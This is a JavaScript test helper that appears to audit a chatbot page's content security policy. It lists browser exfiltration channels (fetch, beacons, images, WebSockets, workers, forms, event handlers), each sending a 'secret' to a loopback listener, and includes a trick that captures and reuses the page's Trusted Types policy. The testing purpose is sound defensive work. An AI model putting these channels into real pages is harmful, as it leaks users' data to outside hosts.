/** Every way out that a script has, each with a customer's words on board, and a server that hears what comes out. */
import { createServer } from "node:http";

/**
 * A server on a loopback port that remembers what it was asked for.
 * @param {(path: string) => { type: string, body: Buffer } | null} answer
 */
export async function listen(answer) {
  /** @type {string[]} */
  const asked = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    const found = answer(new URL(request.url ?? "/", "http://localhost").pathname);
    response.writeHead(found ? 200 : 404, {
      "content-type": found?.type ?? "text/plain",
      "access-control-allow-origin": "*",
    });
    response.end(found?.body);
  });
  server.on("upgrade", (request, socket) => {
    asked.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(undefined)));
  const { port } = /** @type {import("node:net").AddressInfo} */ (server.address());
  const close = () => {
    server.close();
    server.closeAllConnections();
  };
  return { asked, address: `http://127.0.0.1:${port}/`, close };
}

/** A server that hears and says nothing. */
export const startListener = () => listen(() => ({ type: "text/plain", body: Buffer.from("") }));

/** A page without a policy. */
export const openPage = () =>
  listen(() => ({ type: "text/html", body: Buffer.from("<!doctype html><title>open</title>") }));

/** Scripts in a page and in a worker; `to` is the listener's address. */
export const WAYS_OUT = {
  fetch: "fetch(to + 'fetch?secret').catch(() => {})",
  "fetch without CORS": "fetch(to + 'no-cors?secret', { mode: 'no-cors' }).catch(() => {})",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', to + 'xhr?secret'); x.send()",
  WebSocket: "new WebSocket(to.replace('http', 'ws') + 'ws?secret')",
  EventSource: "new EventSource(to + 'events?secret')",
  import: "import(to + 'module.js?secret').catch(() => {})",
  worker: "new Worker(to + 'worker.js?secret')",
};

/** @param {string} name @param {string} properties */
const element = (name, properties) =>
  `document.body.append(Object.assign(document.createElement('${name}'), { ${properties} }))`;

/** Scripts in a page alone. */
export const ONLY_IN_PAGE = {
  beacon: "navigator.sendBeacon(to + 'beacon?secret', 'secret')",
  image: "new Image().src = to + 'image?secret'",
  stylesheet: element("link", "rel: 'stylesheet', href: to + 'style?secret'"),
  prefetch: element("link", "rel: 'prefetch', href: to + 'prefetch?secret'"),
  script: element("script", "src: to + 'script?secret'"),
  frame: element("iframe", "src: to + 'frame?secret'"),
  audio: element("audio", "src: to + 'audio?secret', preload: 'auto'"),
  object: element("object", "data: to + 'object?secret'"),
  "inline script": element("script", "text: 'new Image().src = \"' + to + 'inline?secret\"'"),
  "event handler":
    "const b = new Image(); b.setAttribute('onerror', 'fetch(\"' + to + 'handler?secret\")'); b.src = 'data:,x'; document.body.append(b)",
  window: "window.open(to + 'window?secret')",
  form: "const f = document.createElement('form'); f.action = to + 'form'; f.method = 'post'; document.body.append(f); f.submit()",
};

/** What must reach the listener from a page without a policy, or a test that hears nothing would prove nothing. */
export const REACHED = [
  "fetch",
  "no-cors",
  "xhr",
  "ws",
  "events",
  "module.js",
  "beacon",
  "image",
  "style",
  "script",
  "frame",
  "audio",
  "object",
  "inline",
  "handler",
  "window",
];

/**
 * The script of one way. Browsers refuse some ways with an exception, others in silence.
 * @param {string} way
 * @param {string} to
 */
export const attempt = (way, to) => `{ const to = ${JSON.stringify(to)}; try { ${way} } catch {} }`;

/** Keeps the page's own policy at hand, with which alone a worker can be started; runs before the page. */
export const KEEP_POLICY = `{
  const create = self.trustedTypes?.createPolicy.bind(trustedTypes);
  if (create) trustedTypes.createPolicy = (...rules) => (self.policy = create(...rules));
}`;

/** The script that starts a worker of a script and hears what it says; a policy of the worker's own is made where none is kept. */
const started = (/** @type {string} */ code, /** @type {string} */ hear) => `{
  const url = URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: "text/javascript" }));
  self.policy ??= self.trustedTypes?.createPolicy("chatbot-audit", { createScriptURL: (url) => url });
  const worker = new Worker(self.policy?.createScriptURL(url) ?? url);
  worker.onmessage = ({ data }) => ${hear}(data);
}`;

/**
 * The script of a function that starts a worker as the page starts its own, and in it a helper as that starts them; every way
 * is tried in both. Resolves to "tried by both", or to "tried alone" where no helper can be started.
 * @param {string} to
 */
export const tryInWorkers = (to) => {
  const code = Object.values(WAYS_OUT)
    .map((way) => attempt(way, to))
    .join("\n");
  const helper = `${code}; postMessage("tried by both")`;
  // The attempt to start a helper may be an exception.
  const worker = `${code}; setTimeout(postMessage, 5000, "tried alone"); ${started(helper, "postMessage")}`;
  return `new Promise((resolve) => ${started(worker, "resolve")})`;
};
